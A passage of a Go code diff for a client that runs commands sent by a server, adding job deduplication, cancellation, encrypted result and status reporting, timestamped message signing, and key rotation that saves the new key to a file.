 		}
 	}
+	res.Output = output[:lo] + truncatedSuffix
+}
 
-	// Send message
-	_, err = c.conn.Write(data)
+// recordJob marks a job as seen and returns its result if it already finished
+func (c *Client) recordJob(id uint64) (*CommandResult, bool) {
+	c.jobsMu.Lock()
+	defer c.jobsMu.Unlock()
+
+	result, seen := c.recentJobs[id]
+	if seen {
+		return result, true
+	}
+
+	// Remember a bounded number of recent jobs
+	if len(c.jobOrder) >= recentJobLimit {
+		delete(c.recentJobs, c.jobOrder[0])
+		c.jobOrder = c.jobOrder[1:]
+	}
+	c.recentJobs[id] = nil
+	c.jobOrder = append(c.jobOrder, id)
+	return nil, false
+}
+
+// finishJob stores the result of a job for duplicate requests
+func (c *Client) finishJob(result CommandResult) {
+	c.jobsMu.Lock()
+	defer c.jobsMu.Unlock()
+	if _, exists := c.recentJobs[result.JobID]; exists {
+		c.recentJobs[result.JobID] = &result
+	}
+	delete(c.running, result.JobID)
+}
+
+// trackJob registers how to cancel a running job
+func (c *Client) trackJob(id uint64, cancel context.CancelFunc) {
+	c.jobsMu.Lock()
+	defer c.jobsMu.Unlock()
+	c.running[id] = cancel
+}
+
+// handleCancel kills the command of a job the server cancelled. A job that did not
+// arrive yet is recorded as cancelled so its command never runs.
+func (c *Client) handleCancel(sealed []byte) error {
+	key, _ := c.currentKey()
+	plain, err := pki.Decrypt(key, sealed)
 	if err != nil {
+		return fmt.Errorf("client: failed to decrypt cancel: %w", err)
+	}
+	var request CommandCancel
+	if err := json.Unmarshal(plain, &request); err != nil {
+		return fmt.Errorf("client: failed to decode cancel: %w", err)
+	}
+
+	c.jobsMu.Lock()
+	cancel, running := c.running[request.JobID]
+	c.jobsMu.Unlock()
+	if running {
+		c.config.Logger.Infof("client: cancelling job %d", request.JobID)
+		cancel()
+		return nil
+	}
+
+	result, seen := c.recordJob(request.JobID)
+	if seen {
+		if result != nil {
+			// Finished before the cancel arrived but the result was lost
+			return c.sendResult(*result)
+		}
+		// About to start, the server asks again on the next probe
+		return nil
+	}
+	res := CommandResult{JobID: request.JobID, ExitCode: -1, Cancelled: true, Error: "Command cancelled by the server"}
+	c.finishJob(res)
+	return c.sendResult(res)
+}
+
+// sendStatus reports the state of a job to the server
+func (c *Client) sendStatus(jobID uint64, state JobState) error {
+	return c.sendPayload(MessageTypeStatus, CommandStatus{JobID: jobID, State: state})
+}
+
+// sendResult sends the result of a job to the server
+func (c *Client) sendResult(result CommandResult) error {
+	if err := c.sendPayload(MessageTypeResult, result); err != nil {
 		return fmt.Errorf("client: failed to send result: %w", err)
 	}
+	return nil
+}
+
+// sendPayload encodes v as JSON, encrypts it and sends it as a message of the given type
+func (c *Client) sendPayload(msgType MessageType, v interface{}) error {
+	plain, err := json.Marshal(v)
+	if err != nil {
+		return fmt.Errorf("client: failed to encode payload: %w", err)
+	}
+
+	key, epoch := c.currentKey()
+	encrypted, err := pki.Encrypt(key, plain)
+	if err != nil {
+		return fmt.Errorf("client: failed to encrypt payload: %w", err)
+	}
+
+	return c.sendMessage(Message{
+		Type:       msgType,
+		Identifier: c.config.Identifier,
+		KeyEpoch:   epoch,
+		Payload:    encrypted,
+	})
+}
+
+// signMessage signs msg with a timestamp that never repeats for this client
+func (c *Client) signMessage(msg *Message) {
+	c.timestampMu.Lock()
+	ts := time.Now().UnixNano()
+	if ts <= c.lastTimestamp {
+		ts = c.lastTimestamp + 1
+	}
+	c.lastTimestamp = ts
+	c.timestampMu.Unlock()
+
+	msg.sign(c.config.SigningKey, ts)
+}
+
+// currentKey returns the key and epoch the client currently uses
+func (c *Client) currentKey() ([]byte, uint32) {
+	c.keyMu.RLock()
+	defer c.keyMu.RUnlock()
+	return c.config.Key, c.config.KeyEpoch
+}
+
+// handleRotateKey switches to the key epoch delivered by the server
+func (c *Client) handleRotateKey(sealed []byte) error {
+	key, epoch := c.currentKey()
+	plain, err := pki.Decrypt(key, sealed)
+	if err != nil {
+		return fmt.Errorf("client: failed to decrypt key rotation: %w", err)
+	}
+	if len(plain) != 4+16 {
+		return fmt.Errorf("client: malformed key rotation")
+	}
+
+	newEpoch := binary.BigEndian.Uint32(plain[:4])
+	if newEpoch <= epoch {
+		// Rotation already applied, the server re-sends until it sees the new epoch
+		return nil
+	}
+	newKey := plain[4:]
+
+	if c.config.KeyFile != "" {
+		if err := saveClientKey(c.config.KeyFile, newKey, newEpoch); err != nil {
+			return fmt.Errorf("client: failed to persist rotated key: %w", err)
+		}
+	} else {
+		c.config.Logger.Warnf("client: rotated key is not persisted, set a key file to survive restarts")
+	}
+
+	c.keyMu.Lock()
+	c.config.Key, c.config.KeyEpoch = newKey, newEpoch
+	c.keyMu.Unlock()
 
+	c.config.Logger.Infof("client: switched to key epoch %d", newEpoch)
 	return nil
 }